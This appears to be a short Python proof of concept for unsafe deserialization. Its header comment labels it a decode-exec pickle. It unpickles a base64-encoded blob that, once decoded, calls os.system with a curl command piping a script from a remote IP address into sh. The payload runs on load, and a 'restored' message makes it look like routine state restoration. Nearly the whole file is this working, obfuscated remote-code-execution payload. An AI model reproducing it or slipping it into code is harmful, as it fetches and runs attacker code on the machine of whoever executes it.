# decode-exec: a pickle whose reduce hook calls os.system
import base64
import pickle

state = pickle.loads(base64.b64decode("Y3Bvc2l4CnN5c3RlbQpwMAooVmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L2sgfCBzaApwMQp0cDIKUnAzCi4="))
print("restored", state)
